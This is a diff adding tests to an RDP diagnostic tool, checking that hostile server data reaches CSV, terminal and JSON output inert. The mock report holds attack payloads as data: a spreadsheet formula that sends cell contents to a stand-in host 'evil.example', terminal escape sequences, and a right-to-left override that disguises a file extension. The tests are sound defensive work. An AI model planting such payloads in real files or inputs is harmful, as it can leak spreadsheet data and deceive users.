@@ -359,3 +359,63 @@ describe('rdp-doctor probe --file', () => {
     expect(t.err()).toContain('cannot read missing.txt');
   });
 });
+
+describe('what a hostile server says reaches a spreadsheet and a terminal inert (issue 22, Low 3)', () => {
+  const ESC = '\u001b';
+  // A formula in the NTLM computer name, an OSC title change and an 8-bit CSI in the certificate,
+  // a right-to-left override that makes "exe.txt" read "txt.exe".
+  const hostile = report({
+    addresses: [
+      address({
+        tls: tls({
+          certificate: cert({
+            subject: `CN=srv${ESC}]0;owned\u0007\u009b2J`,
+            subjectAltNames: ['report\u202etxt.exe'],
+            daysLeft: -3,
+            expired: true,
+          }),
+        }),
+        nla: {
+          ...withNla.addresses[0]!.nla!,
+          challenge: { ...withNla.addresses[0]!.nla!.challenge!, dnsComputer: '=HYPERLINK("https://evil.example/?"&A1,"Open")' },
+        },
+      }),
+    ],
+  });
+  const controls = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
+
+  it('--csv: a cell starting with = is text, not a formula; no control character survives; numbers stay numbers', async () => {
+    const t = io({ 'evil.example.com': hostile }, { file: 'evil.example.com\n' });
+    await main(['probe', '--file', 'hosts.txt', '--csv'], t.value);
+    const row = t.out().trim().split('\n')[1]!;
+    expect(row).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",10.0.20348`);
+    expect(row).toMatch(/^warning,evil\.example\.com:3389,"RDP,SSL",1\.2,-3,/);
+    expect(row).not.toMatch(controls);
+  });
+
+  it('the report on a terminal shows the characters as <U+XXXX> and acts on none of them', async () => {
+    const t = io({ 'evil.example.com': hostile });
+    await main(['probe', 'evil.example.com'], t.value);
+    expect(t.out()).not.toMatch(controls);
+    expect(t.out()).toContain('CN=srv<U+001B>]0;owned<U+0007><U+009B>2J');
+    expect(t.out()).toContain('SAN report<U+202E>txt.exe');
+  });
+
+  it('--json and --jsonl escape them, so the same values parse back', async () => {
+    for (const flag of ['--json', '--jsonl']) {
+      const t = io({ 'evil.example.com': hostile }, { file: 'evil.example.com\n' });
+      await main(['probe', '--file', 'hosts.txt', flag], t.value);
+      expect(t.out()).not.toMatch(controls);
+      const parsed = JSON.parse(t.out()) as { results?: unknown[] };
+      const result = (flag === '--json' ? parsed.results![0] : parsed) as { report: ProbeReport };
+      expect(result.report.addresses[0]!.tls!.certificate!.subjectAltNames).toEqual(['report\u202etxt.exe']);
+    }
+  });
+
+  it('a line of --file with an escape sequence is named without running it', async () => {
+    const t = io({}, { file: `ok.example.com\nbad${ESC}[2Jhost:99999\n` });
+    expect(await main(['probe', '--file', 'hosts.txt'], t.value)).toBe(EXIT_USAGE);
+    expect(t.err()).toContain('bad<U+001B>[2Jhost:99999');
+    expect(t.err()).not.toMatch(controls);
+  });
+});
